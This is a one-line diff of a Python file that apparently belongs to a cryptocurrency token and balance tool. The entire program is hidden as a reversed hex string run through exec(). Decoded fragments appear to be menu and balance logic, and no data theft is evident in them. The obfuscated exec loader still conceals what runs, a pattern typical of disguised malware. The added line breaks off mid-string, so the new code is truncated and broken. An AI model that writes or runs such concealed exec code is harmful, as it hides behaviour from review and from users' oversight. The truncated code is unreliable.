@@ -1 +1 @@
-_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "92825637571607020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e6962707020202020202020202020202a0a35637c6560202020202020202a0a05637c6166402d30257e656d6f556c646e65726f5e696020202020202020202020202a0a37203037202d3d302563696f68636026696c6560202020202020202a0a05637c6166402d30257e656d6f556c646e65726f5e696020202020202020202020202a09222e2e2e216d61647570257e656d60256b60296c61626d656b602b65747e65702275647e65402e616b65645e6c52282475707e696020202020202020202020202a0020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0a35637c656020202020202020202020202a0925657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716825636e616c61626f547e656d656c64747563702020202020202020202020202020202a0a372437202d3d302563696f68636f546f6864756d6026696c656020202020202020202020202a0925657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716822367f547e656d6971607f537962717f577f6863702020202020202020202020202020202a0a372337202d3d302563696f68636f546f6864756d6026696c656020202020202020202020202a09222951405545405f4843522d346f6864756d6f547e656d6971607f5563627f66602c25657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716822367f547e656d69716079647c657d6f577f6863702020202020202020202020202020202a0a372237202d3d302563696f68636f546f6864756d6026696c656020202020202020202020202a09256572745d3971607565607f68637f5564657c636875602c25657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716822367f547e656d69716079647c657d6f577f6863702020202020202020202020202020202a0a372137202d3d302563696f68636f546f6864756d6026696020202020202020202020202a0a09637d657371402320222547414b4341405f59555242202d30227f666f547e656d6971607020202020202020202020202a0922202e302e6162716971626d65607025646f64756d6028696c696052282475707e69602d302563696f68636f546f6864756d6020202020202020202020202a0020202020202020202020202a09222d75323a272d272b722668247e6962707020202020202020202020202a09222c61647162402f88bfe9a682e02e2d74554355425e256c6974735b7d503b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a092221637c65705020b29f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0922235942515021b39f90f02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a09222971605565607f68635023b29f90f02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0922292f465f402c2971605f67402c214e4144482024756c6c61675d254023b29f90f02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a09222a3e6162716971626d65605025646f64756d4e6c5228247e6962707020202020202020202020202a0a09222d75353a272d272b722668247e6962707020202020202020202020202a09222d75636962707f5c61647f647b702072502a3e6162716971626d6560502c61647f645020222668247e6962707020202020202020202020202a09222d75353a272d272b722668247e6962707020202020202020202020202a09222d7d572563696270772b5d6564796b702072502d202d7d57256d616e672b5d6564796b702e2d713b296b7020222668247e696270702020202020202020202020202020202a0a39247271636f59716c607379646825647162756d657e65602e69602d656479602c2960227f666020202020202020202020202a0922256c646e6572402e6162716971626d6560502963716d6279666e6f6b4023b29f90f2282275646165686f547e6962707020202020202020202020202a09282e65656273637f5271656c636020202020202020202020202a0a337d6564796f5472716360246e6160272537202d3d302563696f68636026696c6560202020202020202a0a09282563757160702020202020202020202020202020202a09222e24696c6166702b61646964702d65647960227f6d6f6e4228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09282563757160702020202020202020202020202020202a09222e237570716869646028616c656470272d7d57256d616e672b5d6564796f5465667f6d65627b77202d656479422668247e696270702020202020202020202020202020202a0d572563696270772b5d6564796f5465667f6d6562702d3d2025636962707f5c61647f64702020202020202020202020202020202a092c65646f5f647f58746968207f607e237d6564796f54727163602020202020202020202020202020202a092c65646f5f647f58746968207f607e247271636f59716c60737964602d302d6564796f5465667f6d6562702020202020202020202020202020202a01302d20292563696f68636f5c656468247e69602d302c65646f5f647f587469602020202020202020202020202020202a0a39237d6564796f54727163682e656c602d3c30292563696f68636f5c656468247e69602d3c302130246e61602928247967696463796e2563696f68636f5c65646026696020202020202020202020202a0922202a33757071686964602e69676e6960276e6169702d65647960227f6d6f6e602e616b6b6573716d42282475707e69602d302563696f68636f5c65646020202020202020202020202a0a337d6564796f5472716360246e6160272437202d3d302563696f68636026696c6560202020202020202a0a09282563757160702020202020202020202020202020202a09222e276e616a6e6162756b60256b602e616b6861626d61647964602c6963716862756260272d756d616e6f59716c607379646b772024756b616050258c92e22668247e696270702020202020202020202020202020202a0d572563696270772b5e6f6964707f602d3b2025636962707f5c61647f64702020202020202020202020202020202a092d7d572563696270772b5e6f6964707f602a37256369627077202c256d616e6f59716c60737964602a37256d616e672b78246e656070716e247271636f59716c60737964602020202020202020202020202020202a0929202020202020202020202020202020202a0d572e6f6964716d6279666e6f636f5e656b6f64772b5c69616475646f5567616b6361607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d387164702c2d57256d616e672b5e6f6964707f6d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d572563696270772b5e6f6964707f6d35636962707f5d656479602c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5725646f636f5e6f6964707f6f5567616b636160772b5e6f6964707f6d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d69716058246e656070716e237d6564796f54727163602020202020202020202020202020202a0d572e6f6964707f6f5567616b636160772b5c69616475646f5567616b636160702d302e6f6964707f602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a047c65737562702d30256d616e6f59716c60737964602c2c69616475646f5567616b6361607020202020202020202020202a0020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0e24757a6e616c60257c6275607021697e6168602164796b602964616a602c227f627275602e6163756070296e61676e616e656d60286164657370297c696d61666f59726f537567616b6361607f5475676023202020202020202020202020202020202a0a347c6573756270247f6e6026696020202020202020202020202a09256572745d3c69616475646f5567616b6361607f5e6275747562702c25646f636f597c696d616668297c696d61666f59726f537567616b6361607f547567602d30247c657375627020202020202020202020202a08696c696079646027697024756b6160702c6961647564602e616b696c61626d65676e656d602e61646024756b616070227164766164602e616b6c69607d616e656d602e616b6160296e69602963776e657640232020202020202020202020202a0922202a35646f6340297c696d6166402e616b6b6573716d42282475707e69602d3025646f636f597c696d61666020202020202020202020202a0a372337202d3d302563696f68636026696c6560202020202020202a0a0a09282563757160702020202020202020202020202020202a09222e276e616a6e6162756b60256b602e616b6861626d61647964602c6963716862756260272d756d616e6f59716c607379646b772024756b616050258c92e22668247e696270702020202020202020202020202020202a0d572563696270772b5e6f6964707f602d3b2025636962707f5c61647f64702020202020202020202020202020202a092d7d572563696270772b5e6f6964707f602a37256369627077202c256d616e6f59716c60737964602a37256d616e672b78246e656070716e247271636f59716c60737964602020202020202020202020202020202a0929202020202020202020202020202020202a0d572e6f6964716d6279666e6f636f5e656b6f64772b5c69616475646f5567616b6361607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d387164702c2d57256d616e672b5e6f6964707f6d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d572563696270772b5e6f6964707f6d35636962707f5d656479602c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5725646f636f5e6f6964707f6f5567616b636160772b5e6f6964707f6d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d69716058246e656070716e237d6564796f54727163602020202020202020202020202020202a0d572e6f6964707f6f5567616b636160772b5c69616475646f5567616b636160702d302e6f6964707f602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a09282b62716d6b6f6f626f597c696d61666f5d6f62766f5567616b6361607f547567602d30256d616e6f59716c60737964602c2c69616475646f5567616b6361607020202020202020202020202a0a372237202d3d302563696f68636026696c6560202020202020202a0a09282563757160702020202020202020202020202020202a09222e276e616a6e6162756b60256b602e616b6861626d61647964602c6963716862756260272d756d616e6f59716c607379646b772024756b616050258c92e22668247e696270702020202020202020202020202020202a0d572563696270772b5e6f6964707f602d3b2025636962707f5c61647f64702020202020202020202020202020202a092d7d572563696270772b5e6f6964707f602a37256369627077202c256d616e6f59716c60737964602a37256d616e672b78246e656070716e247271636f59716c60737964602020202020202020202020202020202a0929202020202020202020202020202020202a0d572e6f6964716d6279666e6f636f5e656b6f64772b5c69616475646f5567616b6361607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d387164702c2d57256d616e672b5e6f6964707f6d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d572563696270772b5e6f6964707f6d35636962707f5d656479602c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5725646f636f5e6f6964707f6f5567616b636160772b5e6f6964707f6d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d69716058246e656070716e237d6564796f54727163602020202020202020202020202020202a0d572e6f6964707f6f5567616b636160772b5c69616475646f5567616b636160702d302e6f6964707f602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a09282b62716d6b6f6f626f5d6f62766f5567616b6361607f547567602d30256d616e6f59716c60737964602c2c69616475646f5567616b6361607020202020202020202020202a0a372137202d3d302563696f686360266960202020202020202a0a0922202e302e6168696c696052282475707e69602d302563696f686360202020202020202a00202020202020202a09222d75353a272d272b722668247e69627070202020202020202a0922216d61647550257e656d40256b60296c61626d656b402f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222e6162716971626d656050256b602e616b64757a6e616c4023b29f90f02e2d74554355425e256c6974735b7d553b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0a337d6564796f5472716360266960202020202020202a0922276e616a6e6162756b6029627164602d656479602375707168402f88bfe1979f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922292c61657e616d482025646f6340297c696d616640296271646024756b6160502861626d616450259e92e02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092225646f6340297c696d6166402b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092925353a222d2228202b20222e6c5228247e69627070202020202020202a0a09222d75636962707f5c61647f647b702072502a3167627168402c61647f645020222668247e6962707020202020202020202020202a09222d75353a272d272b722668247e6962707020202020202020202020202a09222d7d572563696270772b5d6564796b702072502d202d7d57256d616e672b5d6564796b702e2d74554355425e256c6974735b7d5d713b296b7b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a0a39247271636f59716c607379646825647162756d657e65602e69602d656479602c2960227f666020202020202020202020202a09222a376e616a6e6162756b402963794228247e6962707020202020202020202020202a0a35637c6560202020202020202a09222e276e6f637f6b60286963716d6021646e6140276e616a6e6162756b4228247e6962707020202020202020202020202a0a337d6564796f5472716360247f6e60266960202020202020202a0a0922256c646e65724024756b616050276e616a6e6162756b40229b9f90f2282275646165686f547e69627070202020202020202a09282e65656273637f5271656c6360202020202020202a0a357e656d6f556c646e65726f5e6960256c696867702020202a05657274502d30257e656d6f556c646e65726f5e69602020202a0a00302d3025636962707f5c61647f64702020202a0d5b502d30247271636f59716c60737964602020202a0d5b502d302d5d656479447e656d6971605b5473796c602a337d6564796f54727163602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a3928257e656d6f556c646e65726f577f6863702665646a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202a0a35637c65602020202a09256572745d3c69616475646f5567616b6361607f5e6275747562702c2d5725646f636f597c696d6166672b5d626f54656473656c656378297c696d61666f59726f537567616b6361607f547567602e627574756270202020202020202a047572656372756470297c696d616660296271646024756b61607028696c696d656d602b65747e6570297c696d61666f59726f537567616b6361607f547567602c6967676e6160502320202020202020202a0d51302d20292563696f686368247e696b537b62716d6b6f6f62602d302d626f54656473656c656370202020202020202a0a39237b62716d6b6f6f62682e656c602d3c30292563696f686368247e69602d3c302130246e61602928247967696463796e2563696f6863602669602020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0a32203032202d3d302563696f6863602669602020202a0a0922202e3025646f6360297c696d616660227f6d6f6e6028696c696052282475707e69602d302563696f6863602020202a09222d75353a272d272b722668247e696270702020202a0922296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202a092925353a222d2228202b20222e6c5228247e696270702020202a0a0922292d7d5725646f636f597c696d6166672b5d626b78202d7d57256d616e6f597c696d6166672b5d626b702e2d74554355425e256c6974735b7d5d71302b202874696b7b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0a39237b62716d6b6f6f626825647162756d657e65602e69602d62602c28746960227f66602020202a09222a35646f6340297c696d6166402b62716d6b6f6f62402271647661644228247e696270702020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e2e61607d69637275647025646f6360297c696d6166602b62716d6b6f6f6260216461602b616469645228247e69627070202020202020202a0a337b62716d6b6f6f6260247f6e602669602020202a0928237b62716d6b6f6f626f5475676e25636e6164737e694b62716d6b6f6f62497c696d6166402d30237b62716d6b6f6f62602020202a002020202a092225646f6340297c696d6166402b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a022222202020202a0e29256d616e6f59716c60737964602c2c69616475646f5567616b6361607820256c607574702e616b696c61626d65676e656d402020202a0e28696c6960796460276e61697024756b6160702c6961647564602e616b696c61626d65676e656d602e61646025646f6360297c696d6166602b62716d6b6f6f6260227164766164602e616b6c69607d616e656d402020202a022222202020202a0a39282b62716d6b6f6f626f597c696d61666f5d6f62766f5567616b6361607f547567602665646a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202a0a35637c65602020202a056e6f6e402c256e6f6e402e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f6260296271646024756b6160702c6961647564602c69626d61676e656d602c616761674228247e6962707020202020202020202020202a0a35637c6560202020202020202a056d616e6f59716c60737964602c2c69616475646f5567616b636160702e62757475627020202020202020202020202a022d7d57256d616e6f5e6f6964707f672b5d626f54656473656c65637b702d202d7d57256d616e6f547e6169627166772b5d626f54656473656c65637b702d202d7d57256d616e6f597c696d6166672b5d626f54656473656c65637b7226602d30256d616e6f59716c607379646020202020202020202020202a0a3c69616475646f5567616b63616070266960202020202020202a00202020202020202a0920202020202020202a0d5725637962707275647e656f5379672b5d626f54656473656c65637020202020202020202020202a002c2d57227564627f672b5d626f54656473656c65637020202020202020202020202a0e616b657d6564796460286164657370276e61697025646f636f547e6169627166702e616b616e65774023202c25646f636f547e61696271667020202020202020202020202a002c2d5725646f636f597c696d6166672b5d626f54656473656c65637020202020202020202020202a002c237e656b6f64702c29756b6f5960716020202020202020202020202a08237c69616475646f5567616b6361607f547567602d302c69616475646f5567616b63616070202020202020202a09222e2e2e24756b6160702c6961647564602c69626d61676e656d4228247e69627070202020202020202a0a0b61656272602020202020202020202020202020202a092225646f636f547e61696271667f5567616b63616072282475676e247e6169627166702d3025646f636f547e6169627166702020202020202020202020202020202a0a3d57256d616e6f547e6169627166772b5d626f54656473656c6563702d3d302922256d616e62282475676e247e61696271667026696020202020202020202020202a0a392d5b502c2223747e61696271667f5567616b63616072282475676e216471646f597c696d6166602e6960247e616962716670227f6660202020202020202a056e6f6e402d3025646f636f547e616962716670202020202020202a0b62716d6b6f6f62602962716460256d616e6f547e6169627166702e616b62716371646275626025646f636f547e61696271667029627163402320202020202020202a0a056e6f6e402c256e6f6e402e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f62602b65747e6570297c696d61666021647164602c69626d61676e656d602c616761674228247e6962707020202020202020202020202a0a316471646f597c696d616660247f6e60266960202020202020202a092d5725637962707275647e656f5379672b5d626f54656473656c6563702c2d5725646f636f597c696d6166672b5d626f54656473656c6563702c237e656b6f64702c29756b6f5960716822367f597c696d61666f547567602d30216471646f597c696d616660202020202020202a05646f636f547e6169627166702e616b657d656e656d602b65747e6570257c6578616460286962656c62756470297c696d61666021647164602c69626d61402320202020202020202a00202020202020202a0d51302d20292563696f686368247e696b537b62716d6b6f6f62602d302d626f54656473656c656370202020202020202a0a39237b62716d6b6f6f62682e656c602d3c30292563696f686368247e69602d3c302130246e61602928247967696463796e2563696f6863602669602020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0a32203032202d3d302563696f6863602669602020202a0a0922202e302e616b6861626d61647964602e69676e6960276e61697024756b616070227f6d6f6e6028696c696052282475707e69602d302563696f6863602020202a09222d75353a272d272b722668247e696270702020202a0922296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202a092925353a222d2228202b20222e6c5228247e696270702020202a002020202a09222d7274737f59747964696c61667b7d7d57256d616e6f5e6f6964707f672b5d626b702d202d7d57256d616e6f547e6169627166772b5d626b702d202d7d57256d616e6f597c696d6166672b5d626b702e2d74554355425e256c6974735b7d5d71302b202874696b7b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a02222025637c6560292729747964696c616677282475676e2d626026696022292d792727202c2729747964696c616677282475676e2d626b78202226602d302274737f59747964696c616670202020202020202a0a39237b62716d6b6f6f626825647162756d657e65602e69602d62602c28746960227f66602020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e2e61607d6963727564702b62716d6b6f6f6260216461602b616469645228247e69627070202020202020202a0a337b62716d6b6f6f6260247f6e602669602020202a0928237b62716d6b6f6f626f5475676e25636e6164737e694b62716d6b6f6f62402d30237b62716d6b6f6f62602020202a09222b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a002020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a022222202020202a0e29256d616e6f59716c60737964602c2c69616475646f5567616b6361607820256c607574702e616b696c61626d65676e656d402020202a0e28696c6960796460276e61697024756b6160702c6961647564602e616b696c61626d65676e656d602e6164602b62716d6b6f6f6260227164766164602e616b6c69607d616e656d402020202a022222202020202a0a39282b62716d6b6f6f626f5d6f62766f5567616b6361607f547567602665646a0a0d656479447e656d6971605024727f607d6960247369646f556079747e207071602d6f62766a05636e6164737e694b62716d6b6f6f62497c696d61664024727f607d69602b62716d6b6f6f626f597c696d61666e256369667275637e207071602d6f62766a05636e6164737e694b62716d6b6f6f624024727f607d69602b62716d6b6f6f626e256369667275637e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a056c697473502c2275646165686f547e696270702c2563757160702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a097c696d61666f59726f537567616b6361607f5475676024727f607d69602567616b6361607e23757e656d6e207071602d6f62766a02367f547e656d6971607f537962717f577f68637024727f607d6960237962717e247e65696c636e207071602d6f62766a02367f547e656d69716079647c657d6f577f68637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a037c69616475646f5567616b6361607f547567602c2567616b6361607f547567602c22367f597c696d61666f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a05636e616c61626f547e656d656c647475637024727f607d696025636e616c61626e247e65696c636e207071602d6f62766a0e6f637a6024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "92825637571607020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e6962707020202020202020202020202a0a35637c6560202020202020202a0a05637c6166402d30257e656d6f556c646e65726f5e696020202020202020202020202a0a37203037202d3d302563696f68636026696c6560202020202020202a0a05637c6166402d30257e656d6f556c646e65726f5e696020202020202020202020202a09222e2e2e216d61647570257e656d60256b60296c61626d656b602b65747e65702275647e65402e616b65645e6c52282475707e696020202020202020202020202a0020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0a35637c656020202020202020202020202a0925657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716825636e616c61626f547e656d656c64747563702020202020202020202020202020202a0a372437202d3d302563696f68636f546f6864756d6026696c656020202020202020202020202a0925657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716822367f547e656d6971607f537962717f577f6863702020202020202020202020202020202a0a372337202d3d302563696f68636f546f6864756d6026696c656020202020202020202020202a09222951405545405f4843522d346f6864756d6f547e656d6971607f5563627f66602c25657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716822367f547e656d69716079647c657d6f577f6863702020202020202020202020202020202a0a372237202d3d302563696f68636f546f6864756d6026696c656020202020202020202020202a09256572745d3971607565607f68637f5564657c636875602c25657274502c227f666f547e656d697160702c237d6564796f54727163602c237e656b6f64702c29756b6f5960716822367f547e656d69716079647c657d6f577f6863702020202020202020202020202020202a0a372137202d3d302563696f68636f546f6864756d6026696020202020202020202020202a0a09637d657371402320222547414b4341405f59555242202d30227f666f547e656d6971607020202020202020202020202a0922202e302e6162716971626d65607025646f64756d6028696c696052282475707e69602d302563696f68636f546f6864756d6020202020202020202020202a0020202020202020202020202a09222d75323a272d272b722668247e6962707020202020202020202020202a09222c61647162402f88bfe9a682e02e2d74554355425e256c6974735b7d503b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a092221637c65705020b29f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0922235942515021b39f90f02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a09222971605565607f68635023b29f90f02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0922292f465f402c2971605f67402c214e4144482024756c6c61675d254023b29f90f02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a09222a3e6162716971626d65605025646f64756d4e6c5228247e6962707020202020202020202020202a0a09222d75353a272d272b722668247e6962707020202020202020202020202a09222d75636962707f5c61647f647b702072502a3e6162716971626d6560502c61647f645020222668247e6962707020202020202020202020202a09222d75353a272d272b722668247e6962707020202020202020202020202a09222d7d572563696270772b5d6564796b702072502d202d7d57256d616e672b5d6564796b702e2d713b296b7020222668247e696270702020202020202020202020202020202a0a39247271636f59716c607379646825647162756d657e65602e69602d656479602c2960227f666020202020202020202020202a0922256c646e6572402e6162716971626d6560502963716d6279666e6f6b4023b29f90f2282275646165686f547e6962707020202020202020202020202a09282e65656273637f5271656c636020202020202020202020202a0a337d6564796f5472716360246e6160272537202d3d302563696f68636026696c6560202020202020202a0a09282563757160702020202020202020202020202020202a09222e24696c6166702b61646964702d65647960227f6d6f6e4228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09282563757160702020202020202020202020202020202a09222e237570716869646028616c656470272d7d57256d616e672b5d6564796f5465667f6d65627b77202d656479422668247e696270702020202020202020202020202020202a0d572563696270772b5d6564796f5465667f6d6562702d3d2025636962707f5c61647f64702020202020202020202020202020202a092c65646f5f647f58746968207f607e237d6564796f54727163602020202020202020202020202020202a092c65646f5f647f58746968207f607e247271636f59716c60737964602d302d6564796f5465667f6d6562702020202020202020202020202020202a01302d20292563696f68636f5c656468247e69602d302c65646f5f647f587469602020202020202020202020202020202a0a39237d6564796f54727163682e656c602d3c30292563696f68636f5c656468247e69602d3c302130246e61602928247967696463796e2563696f68636f5c65646026696020202020202020202020202a0922202a33757071686964602e69676e6960276e6169702d65647960227f6d6f6e602e616b6b6573716d42282475707e69602d302563696f68636f5c65646020202020202020202020202a0a337d6564796f5472716360246e6160272437202d3d302563696f68636026696c6560202020202020202a0a09282563757160702020202020202020202020202020202a09222e276e616a6e6162756b60256b602e616b6861626d61647964602c6963716862756260272d756d616e6f59716c607379646b772024756b616050258c92e22668247e696270702020202020202020202020202020202a0d572563696270772b5e6f6964707f602d3b2025636962707f5c61647f64702020202020202020202020202020202a092d7d572563696270772b5e6f6964707f602a37256369627077202c256d616e6f59716c60737964602a37256d616e672b78246e656070716e247271636f59716c60737964602020202020202020202020202020202a0929202020202020202020202020202020202a0d572e6f6964716d6279666e6f636f5e656b6f64772b5c69616475646f5567616b6361607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d387164702c2d57256d616e672b5e6f6964707f6d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d572563696270772b5e6f6964707f6d35636962707f5d656479602c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5725646f636f5e6f6964707f6f5567616b636160772b5e6f6964707f6d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d69716058246e656070716e237d6564796f54727163602020202020202020202020202020202a0d572e6f6964707f6f5567616b636160772b5c69616475646f5567616b636160702d302e6f6964707f602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a047c65737562702d30256d616e6f59716c60737964602c2c69616475646f5567616b6361607020202020202020202020202a0020202020202020202020202a05657e69647e6f63602020202020202020202020202020202a0e24757a6e616c60257c6275607021697e6168602164796b602964616a602c227f627275602e6163756070296e61676e616e656d60286164657370297c696d61666f59726f537567616b6361607f5475676023202020202020202020202020202020202a0a347c6573756270247f6e6026696020202020202020202020202a09256572745d3c69616475646f5567616b6361607f5e6275747562702c25646f636f597c696d616668297c696d61666f59726f537567616b6361607f547567602d30247c657375627020202020202020202020202a08696c696079646027697024756b6160702c6961647564602e616b696c61626d65676e656d602e61646024756b616070227164766164602e616b6c69607d616e656d602e616b6160296e69602963776e657640232020202020202020202020202a0922202a35646f6340297c696d6166402e616b6b6573716d42282475707e69602d3025646f636f597c696d61666020202020202020202020202a0a372337202d3d302563696f68636026696c6560202020202020202a0a0a09282563757160702020202020202020202020202020202a09222e276e616a6e6162756b60256b602e616b6861626d61647964602c6963716862756260272d756d616e6f59716c607379646b772024756b616050258c92e22668247e696270702020202020202020202020202020202a0d572563696270772b5e6f6964707f602d3b2025636962707f5c61647f64702020202020202020202020202020202a092d7d572563696270772b5e6f6964707f602a37256369627077202c256d616e6f59716c60737964602a37256d616e672b78246e656070716e247271636f59716c60737964602020202020202020202020202020202a0929202020202020202020202020202020202a0d572e6f6964716d6279666e6f636f5e656b6f64772b5c69616475646f5567616b6361607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d387164702c2d57256d616e672b5e6f6964707f6d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d572563696270772b5e6f6964707f6d35636962707f5d656479602c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5725646f636f5e6f6964707f6f5567616b636160772b5e6f6964707f6d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d69716058246e656070716e237d6564796f54727163602020202020202020202020202020202a0d572e6f6964707f6f5567616b636160772b5c69616475646f5567616b636160702d302e6f6964707f602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a09282b62716d6b6f6f626f597c696d61666f5d6f62766f5567616b6361607f547567602d30256d616e6f59716c60737964602c2c69616475646f5567616b6361607020202020202020202020202a0a372237202d3d302563696f68636026696c6560202020202020202a0a09282563757160702020202020202020202020202020202a09222e276e616a6e6162756b60256b602e616b6861626d61647964602c6963716862756260272d756d616e6f59716c607379646b772024756b616050258c92e22668247e696270702020202020202020202020202020202a0d572563696270772b5e6f6964707f602d3b2025636962707f5c61647f64702020202020202020202020202020202a092d7d572563696270772b5e6f6964707f602a37256369627077202c256d616e6f59716c60737964602a37256d616e672b78246e656070716e247271636f59716c60737964602020202020202020202020202020202a0929202020202020202020202020202020202a0d572e6f6964716d6279666e6f636f5e656b6f64772b5c69616475646f5567616b6361607d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202020202020202020202020202a0c203d387164702c2d57256d616e672b5e6f6964707f6d356d616e6f5d65647960202020202020202020202020202020202020202a0c2d572563696270772b5e6f6964707f6d35636962707f5d656479602c22222d356079747f547365746f627070202020202020202020202020202020202020202a0c2d5725646f636f5e6f6964707f6f5567616b636160772b5e6f6964707f6d35646f636f5d65647960202020202020202020202020202020202020202a082d656479447e656d69716058246e656070716e237d6564796f54727163602020202020202020202020202020202a0d572e6f6964707f6f5567616b636160772b5c69616475646f5567616b636160702d302e6f6964707f602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a09282b62716d6b6f6f626f5d6f62766f5567616b6361607f547567602d30256d616e6f59716c60737964602c2c69616475646f5567616b6361607020202020202020202020202a0a372137202d3d302563696f686360266960202020202020202a0a0922202e302e6168696c696052282475707e69602d302563696f686360202020202020202a00202020202020202a09222d75353a272d272b722668247e69627070202020202020202a0922216d61647550257e656d40256b60296c61626d656b402f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222e6162716971626d656050256b602e616b64757a6e616c4023b29f90f02e2d74554355425e256c6974735b7d553b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0a337d6564796f5472716360266960202020202020202a0922276e616a6e6162756b6029627164602d656479602375707168402f88bfe1979f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0922292c61657e616d482025646f6340297c696d616640296271646024756b6160502861626d616450259e92e02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b